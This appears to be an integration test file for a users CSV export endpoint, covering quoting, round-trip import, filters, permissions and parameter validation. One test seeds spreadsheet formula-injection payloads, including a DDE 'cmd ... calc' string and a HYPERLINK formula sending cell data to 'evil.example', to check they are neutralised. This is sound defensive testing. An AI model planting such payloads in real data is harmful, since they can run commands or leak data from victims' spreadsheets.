import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { startTestApp, type Auth, type TestApp } from '../helpers/test-app.js';
import { testDialects } from '../helpers/databases.js';
import { USER_COLUMNS } from '../../server/imports/user-columns.js';
import { importFile } from '../helpers/imports.js';

// GET /exports/users.csv (issue 9): parsed back by a CSV parser, every column, quotes and line breaks.
const USERS = 1000;

describe.each(testDialects())('users export on %s', (dialect) => {
  let app: TestApp;
  const stem = `ex${Date.now().toString(36)}`;
  let listId: string;
  let orgId: string;

  const get = async (path: string, auth: Auth = app.admin) => {
    const headers: Record<string, string> = {};
    if (auth.kind === 'cookie') headers.cookie = auth.cookie;
    if (auth.kind === 'token') headers.authorization = `Bearer ${auth.token}`;
    return fetch(`${app.url}${path}`, { headers });
  };
  const rowsOf = (text: string): Record<string, string>[] => parse(text, { bom: true, columns: true, relax_column_count: false });

  beforeAll(async () => {
    app = await startTestApp(dialect);
    const admin = app.as(app.admin);
    orgId = (await admin('mutation { createOrganization(input: { name: "Export, \\"Quoted\\" Inc" }) { id } }')).data.createOrganization.id;
    await admin('mutation { createUserField(input: { key: "plan", title: "Plan", type: TEXT }) { id } }');
    await admin('mutation { createUserField(input: { key: "bio", title: "Bio", type: MULTILINE }) { id } }');
    const make = (i: number) =>
      app.gql('mutation($i: CreateUserInput!) { createUser(input: $i) { user { id } } }', {
        i: {
          name: i === 0 ? `${stem} "Zoë", O'Brien` : `${stem} Person ${i}`,
          email: `p${i}.${stem}@export.example.org`,
          phone: i === 0 ? '+33 6 12 34 56 78' : undefined,
          notes: i === 0 ? 'line one\r\nline "two", with comma\nline three' : i % 2 ? 'short' : undefined,
          tags: i % 3 === 0 ? ['vip', 'eu'] : [],
          organizationId: i % 5 === 0 ? orgId : undefined,
          timeZone: i === 0 ? 'Europe/Paris' : undefined,
          externalId: `EXT-${stem}-${i}`,
          verified: i % 2 === 0,
          fields:
            i === 0
              ? [
                  { key: 'plan', value: 'Pro, yearly' },
                  { key: 'bio', value: 'first\nsecond' },
                ]
              : [],
        },
      });
    for (let i = 0; i < USERS; i += 25) {
      const rs = await Promise.all(Array.from({ length: Math.min(25, USERS - i) }, (_, k) => make(i + k)));
      for (const r of rs) expect(r.errors).toBeUndefined();
    }
    const zero = (await app.gql('query($q: String) { users(query: $q) { edges { node { id } } } }', { q: `p0.${stem}@export.example.org` })).data
      .users.edges[0].node.id;
    await app.gql(
      'mutation($id: ID!) { addUserIdentity(userId: $id, input: { type: EMAIL, value: "second.zoe@export.example.org" }) { identity { id } } }',
      { id: zero },
    );
    listId = (
      await admin('mutation($f: UserFilterInput!) { createCustomerList(input: { name: "VIP export", filter: $f, shared: true }) { id } }', {
        f: { query: stem, tagsAll: ['vip'] },
      })
    ).data.createCustomerList.id;
  }, 300_000);
  afterAll(() => app.stop());

  it('writes every matching user as RFC 4180 CSV with a BOM, in the import columns, parsed back exactly', async () => {
    const res = await get(`/exports/users.csv?query=${encodeURIComponent(stem)}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('x-total-count')).toBe(String(USERS));
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    const header = parse(text, { bom: true, to_line: 1 })[0];
    expect(header).toEqual([...USER_COLUMNS, 'custom_fields.plan', 'custom_fields.bio']);
    const rows = rowsOf(text);
    expect(rows).toHaveLength(USERS);
    expect(new Set(rows.map((r) => r.email)).size).toBe(USERS);
    const zoe = rows.find((r) => r.email === `p0.${stem}@export.example.org`)!;
    // Notes as stored (line breaks normalized by the text rules).
    const stored = (await app.gql('query($q: String) { users(query: $q) { edges { node { notes } } } }', { q: zoe.email })).data.users.edges[0].node
      .notes;
    expect(stored).toMatch(/^line one\r?\nline "two", with comma\nline three$/);
    expect(zoe).toEqual({
      name: `${stem} "Zoë", O'Brien`,
      email: `p0.${stem}@export.example.org`,
      emails: 'second.zoe@export.example.org',
      external_id: `EXT-${stem}-0`,
      phone: '+33612345678',
      phones: '',
      role: 'END_USER',
      organization: 'Export, "Quoted" Inc',
      tags: 'eu vip',
      time_zone: 'Europe/Paris',
      locale: '',
      alias: '',
      details: '',
      notes: stored,
      verified: 'true',
      suspended: 'false',
      'custom_fields.plan': 'Pro, yearly',
      'custom_fields.bio': 'first\nsecond',
    });
    const seven = rows.find((r) => r.email === `p7.${stem}@export.example.org`)!;
    expect(seven).toMatchObject({ notes: 'short', tags: '', organization: '', verified: 'false', 'custom_fields.plan': '' });
  });

  it("keeps each user's emails, tags, organization and fields on their own row, across pages and past the users a filter leaves out", async () => {
    // Every user (more than a page), then every other one: the users left out sit between those written.
    for (const [q, expected] of [
      ['', USERS],
      [`?query=${stem}&verified=true`, USERS / 2],
      [`?query=${stem}&verified=false`, USERS / 2],
    ] as const) {
      const res = await get(`/exports/users.csv${q}`);
      expect(res.status).toBe(200);
      const rows = rowsOf(await res.text());
      expect(rows, q).toHaveLength(Number(res.headers.get('x-total-count')));
      const mine = rows.filter((r) => r.email.endsWith(`.${stem}@export.example.org`));
      expect(mine, q).toHaveLength(expected);
      for (const r of mine) {
        const i = Number(/^p(\d+)\./.exec(r.email)![1]);
        expect(r, `${q} p${i}`).toMatchObject({
          emails: i === 0 ? 'second.zoe@export.example.org' : '',
          external_id: `EXT-${stem}-${i}`,
          phone: i === 0 ? '+33612345678' : '',
          organization: i % 5 === 0 ? 'Export, "Quoted" Inc' : '',
          tags: i % 3 === 0 ? 'eu vip' : '',
          verified: String(i % 2 === 0),
          'custom_fields.plan': i === 0 ? 'Pro, yearly' : '',
          'custom_fields.bio': i === 0 ? 'first\nsecond' : '',
        });
      }
    }
    // An inactive field's values stay out (no column, and nothing of theirs in another one).
    const admin = app.as(app.admin);
    const legacy = (await admin('mutation { createUserField(input: { key: "legacy", title: "Legacy", type: TEXT }) { id } }')).data.createUserField
      .id;
    const one = (await app.gql('query($e: String!) { userByEmail(email: $e) { id } }', { e: `p1.${stem}@export.example.org` })).data.userByEmail.id;
    const set = await app.gql('mutation($id: ID!) { updateUser(id: $id, input: { fields: [{ key: "legacy", value: "kept, hidden" }] }) { id } }', {
      id: one,
    });
    expect(set.errors).toBeUndefined();
    expect(
      (await admin('mutation($id: ID!) { updateUserField(id: $id, input: { active: false }) { active } }', { id: legacy })).data.updateUserField,
    ).toEqual({
      active: false,
    });
    const text = await (await get(`/exports/users.csv?query=${stem}&verified=false`)).text();
    expect(text).not.toContain('kept, hidden');
    const p1 = rowsOf(text).find((r) => r.email === `p1.${stem}@export.example.org`)!;
    expect(Object.keys(p1)).toEqual([...USER_COLUMNS, 'custom_fields.plan', 'custom_fields.bio']);
    expect(p1).toMatchObject({ notes: 'short', 'custom_fields.plan': '', 'custom_fields.bio': '' });
  });

  it('round trip: the export imported back changes nothing; an edited export changes exactly the edited cells', async () => {
    const text = await (await get(`/exports/users.csv?query=${encodeURIComponent(stem)}`)).text();
    const again = await importFile(app, text, { mode: 'CREATE_OR_UPDATE' });
    expect(again).toMatchObject({ status: 'DONE', rowsRead: USERS, created: 0, updated: 0, unchanged: USERS, failed: 0 });
    // Edit two cells of the file, as in a spreadsheet, and import it again.
    const rows: string[][] = parse(text, { bom: true });
    const col = (name: string) => rows[0].indexOf(name);
    const seven = rows.findIndex((r) => r[col('email')] === `p7.${stem}@export.example.org`);
    rows[seven][col('notes')] = 'edited, "in" a spreadsheet';
    rows[seven][col('custom_fields.plan')] = 'Basic';
    const edited = rows.map((r) => r.map((c) => (/[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',')).join('\r\n');
    const job = await importFile(app, edited, { mode: 'CREATE_OR_UPDATE' });
    expect(job).toMatchObject({ status: 'DONE', created: 0, updated: 1, unchanged: USERS - 1, failed: 0 });
    const u = await app.gql('query($e: String!) { userByEmail(email: $e) { notes fields { key value } } }', { e: `p7.${stem}@export.example.org` });
    expect(u.data.userByEmail.notes).toBe('edited, "in" a spreadsheet');
    expect(u.data.userByEmail.fields).toContainEqual(expect.objectContaining({ key: 'plan', value: 'Basic' }));
  });

  it('exports a customer list, and the filter given as query parameters', async () => {
    const list = rowsOf(await (await get(`/exports/users.csv?listId=${listId}`)).text());
    expect(list).toHaveLength(Math.ceil(USERS / 3));
    for (const r of list) expect(r.tags).toBe('eu vip');
    const filtered = rowsOf(await (await get(`/exports/users.csv?query=${stem}&organizationId=${orgId}&verified=true&tagsAny=vip,other`)).text());
    // i % 5 == 0, even, i % 3 == 0: multiples of 30.
    expect(filtered).toHaveLength(Math.ceil(USERS / 30));
    const json = encodeURIComponent(JSON.stringify({ query: stem, fields: [{ key: 'plan', equals: 'pro, YEARLY' }] }));
    expect(rowsOf(await (await get(`/exports/users.csv?filter=${json}`)).text()).map((r) => r.email)).toEqual([`p0.${stem}@export.example.org`]);
  });

  it("puts a ' before cells a spreadsheet would read as formulas, not before numbers; imported back, the values are the same", async () => {
    // Names anyone can give themselves (sign-up, the request form), and values staff or partners type.
    const fx = `fx${stem.slice(2)}`;
    const admin = app.as(app.admin);
    expect((await admin('mutation { createUserField(input: { key: "balance", title: "Balance", type: DECIMAL }) { id } }')).errors).toBeUndefined();
    const people = [
      {
        name: `+cmd|' /C calc'!A0`,
        email: `a.${fx}@export.example.org`,
        phone: '+1 415 555 2671',
        notes: `-2+3+cmd|' /C calc'!A0`,
        alias: '+1)*cmd',
        tags: ['=1+2', 'vip'],
        fields: [
          { key: 'plan', value: '=1+2' },
          { key: 'balance', value: '-3.5' },
        ],
      },
      {
        name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        email: `b.${fx}@export.example.org`,
        phone: '+33612345678',
        notes: "'=already quoted, as typed",
        alias: '@SUM(A1:A9)',
        details: '-3.5',
        fields: [
          { key: 'plan', value: "'=1+2" },
          { key: 'bio', value: '-one\n=two' },
        ],
      },
      { name: "'=Quoted Name", email: `c.${fx}@export.example.org`, notes: "''@twice", fields: [{ key: 'balance', value: '-0.000001' }] },
    ];
    for (const [i, p] of people.entries()) {
      const r = await app.gql('mutation($i: CreateUserInput!) { createUser(input: $i) { user { id } } }', {
        i: { ...p, externalId: `FX-${fx}-${i}` },
      });
      expect(r.errors, p.name).toBeUndefined();
    }
    const read = async () => {
      const r = await app.gql(
        'query($q: String) { users(query: $q, first: 10) { edges { node { name email phone notes alias details tags fields { key value } } } } }',
        { q: fx },
      );
      expect(r.errors).toBeUndefined();
      return (r.data.users.edges as { node: any }[]).map((e) => e.node).sort((a, b) => a.email.localeCompare(b.email));
    };
    const stored = await read();
    expect(stored.map((u) => u.name)).toEqual(people.map((p) => p.name));

    const res = await get(`/exports/users.csv?query=${fx}`);
    expect(res.status).toBe(200);
    const text = await res.text();
    const rows = rowsOf(text).sort((a, b) => a.email.localeCompare(b.email));
    expect(rows).toHaveLength(3);
    // In the file: formulas behind a quote, in every column; numbers and phone numbers as they are.
    expect(rows[0]).toMatchObject({
      name: `'+cmd|' /C calc'!A0`,
      phone: '+14155552671',
      notes: `'-2+3+cmd|' /C calc'!A0`,
      alias: `'+1)*cmd`,
      tags: `'=1+2 vip`,
      'custom_fields.plan': `'=1+2`,
      'custom_fields.balance': '-3.5',
    });
    expect(rows[1]).toMatchObject({
      name: `'=HYPERLINK("https://evil.example/?x="&A1,"Click")`,
      phone: '+33612345678',
      notes: "''=already quoted, as typed",
      alias: `'@SUM(A1:A9)`,
      details: '-3.5',
      'custom_fields.plan': "''=1+2",
      'custom_fields.bio': `'-one\n=two`,
    });
    expect(rows[2]).toMatchObject({ name: "''=Quoted Name", notes: "'''@twice", 'custom_fields.balance': '-0.000001' });
    for (const r of rows) for (const [column, cell] of Object.entries(r)) expect(cell, column).not.toMatch(/^[=@\t\r]|^[+-](?![0-9 .()-]+$)/);

    // Imported back as it is: nothing changes.
    expect(await importFile(app, text, { mode: 'CREATE_OR_UPDATE' })).toMatchObject({ status: 'DONE', unchanged: 3, updated: 0, failed: 0 });
    // Changed in the meantime, then imported back in UPDATE mode (empty cells clear): the file's values return exactly.
    for (const u of stored) {
      const id = (await app.gql('query($e: String!) { userByEmail(email: $e) { id } }', { e: u.email })).data.userByEmail.id;
      const r = await app.gql('mutation($id: ID!, $i: UpdateUserInput!) { updateUser(id: $id, input: $i) { id } }', {
        id,
        i: { name: 'Changed', notes: 'changed', alias: 'changed', tags: ['changed'], fields: [{ key: 'plan', value: 'changed' }] },
      });
      expect(r.errors).toBeUndefined();
    }
    expect((await read()).map((u) => u.name)).toEqual(['Changed', 'Changed', 'Changed']);
    expect(await importFile(app, text, { mode: 'UPDATE', blankCellsClear: 'true' })).toMatchObject({ status: 'DONE', updated: 3, failed: 0 });
    const back = await read();
    expect(back).toEqual(stored);
    expect(back[1]).toMatchObject({ notes: "'=already quoted, as typed", fields: expect.arrayContaining([{ key: 'plan', value: "'=1+2" }]) });
    expect(back[2].name).toBe("'=Quoted Name");
  });

  it('asks for staff or a token with USERS_READ, and refuses bad parameters before writing anything', async () => {
    expect((await get('/exports/users.csv', { kind: 'anonymous' })).status).toBe(401);
    const endUser = await app.person('END_USER');
    expect((await get('/exports/users.csv', endUser.auth)).status).toBe(403);
    const writer = await app.token(['USERS_WRITE']);
    expect((await get('/exports/users.csv', writer.auth)).status).toBe(403);
    const reader = await app.token(['USERS_READ']);
    const ok = await get(`/exports/users.csv?query=${stem}&tagsAll=vip&organizationId=${orgId}`, reader.auth);
    expect(ok.status).toBe(200);
    expect(rowsOf(await ok.text())).toHaveLength(Math.ceil(USERS / 15));
    const agent = await app.person('AGENT');
    const theirs = (await app.as(agent.auth)('mutation { createCustomerList(input: { name: "Mine", filter: {} }) { id } }')).data.createCustomerList
      .id;
    expect((await get(`/exports/users.csv?listId=${theirs}`)).status).toBe(404);
    for (const [q, field] of [
      ['verified=maybe', 'verified'],
      ['createdAfter=yesterday', 'createdAfter'],
      ['filter=%7Bnope', 'filter'],
      ['roles=KING', 'roles'],
      [`query=${'x'.repeat(400)}`, 'query'],
    ]) {
      const r = await get(`/exports/users.csv?${q}`);
      expect(r.status, q).toBe(400);
      expect((await r.json()).errors[0].extensions.field).toBe(field);
    }
  });

  it('refuses a parameter it does not know, given twice, or a filter that is not a UserFilterInput, instead of exporting everyone', async () => {
    const refused = async (q: string, field: string, message: RegExp) => {
      const r = await get(`/exports/users.csv?${q}`);
      expect(r.status, q).toBe(400);
      const body = await r.json();
      expect(body.errors[0].extensions, q).toEqual({ code: 'BAD_USER_INPUT', field });
      expect(body.errors[0].message, q).toMatch(message);
    };
    const filter = (f: unknown) => `filter=${encodeURIComponent(JSON.stringify(f))}`;
    // Bracketed names (PHP/qs style) are other names, not these parameters.
    await refused('query[]=x', 'query[]', /"query\[\]" is not a parameter of this export.*tagsAll/);
    await refused('roles[]=ADMIN', 'roles[]', /not a parameter/);
    await refused(`tagsAny[0]=vip&query=${stem}`, 'tagsAny[0]', /not a parameter/);
    // A typo, a cache buster.
    await refused('verifed=true', 'verifed', /not a parameter/);
    await refused('_=1712345678', '_', /not a parameter/);
    // A value for a one-value parameter, given twice; listId beside a filter parameter.
    await refused(`query=${stem}&query=other`, 'query', /once/);
    await refused('verified=true&verified=false', 'verified', /once/);
    await refused(`listId=${listId}&verified=true`, 'verified', /without verified/);
    // filter: not an object, an unknown key, a value of the wrong type.
    await refused('filter=[]', 'filter', /JSON UserFilterInput/);
    await refused('filter=null', 'filter', /JSON UserFilterInput/);
    await refused('filter=%22vip%22', 'filter', /JSON UserFilterInput/);
    await refused('filter=5', 'filter', /JSON UserFilterInput/);
    await refused(filter({ tagsany: ['vip'] }), 'filter', /"tagsany" is not a field of UserFilterInput/);
    await refused(filter({ tagsAny: 'vip' }), 'filter', /tagsAny must be of type \[String!\]/);
    await refused(filter({ roles: ['toString'] }), 'filter', /roles must be of type \[Role!\]/);
    await refused(filter({ verified: 'true' }), 'filter', /verified must be of type Boolean/);
    await refused(filter({ fields: [{ key: 'plan', equal: 'Pro' }] }), 'filter', /"fields\[0\].equal" is not a field/);
    await refused(filter({ fields: ['plan'] }), 'filter', /fields\[0\] must be of type UserFieldConditionInput/);
    await refused(filter({ fields: [{ equals: 'Pro' }] }), 'filter', /fields\[0\].key must be of type String!/);
    await refused('roles=toString', 'roles', /END_USER/);
    // A parameter that filter also gives would replace its condition (exporting more than either asks): refused.
    await refused(`${filter({ query: stem, tagsAll: ['vip'] })}&query=${stem}x`, 'query', /both as a parameter and in filter/);
    await refused(`${filter({ roles: ['END_USER'] })}&roles=ADMIN`, 'roles', /both as a parameter and in filter/);
    await refused(`${filter({ createdAfter: '2020-01-01T00:00:00Z' })}&createdAfter=2030-01-01T00:00:00Z`, 'createdAfter', /both/);
    // In French for a French asker.
    const fr = await fetch(`${app.url}/exports/users.csv?query[]=x`, { headers: { cookie: app.admin.cookie, 'accept-language': 'fr' } });
    expect((await fr.json()).errors[0].message).toMatch(/n’est pas un paramètre de cet export/);
    // What the parameters do say still works: null is a condition left out, as in GraphQL; repeated lists add up.
    const rows = async (q: string) => {
      const r = await get(`/exports/users.csv?${q}`);
      expect(r.status, q).toBe(200);
      return rowsOf(await r.text()).length;
    };
    expect(await rows(filter({ query: stem, tagsAll: ['vip'], verified: null, fields: null }))).toBe(Math.ceil(USERS / 3));
    expect(await rows(`query=${stem}&tagsAny=vip&tagsAny=other`)).toBe(Math.ceil(USERS / 3));
    expect(await rows(`listId=${listId}`)).toBe(Math.ceil(USERS / 3));
  });
});
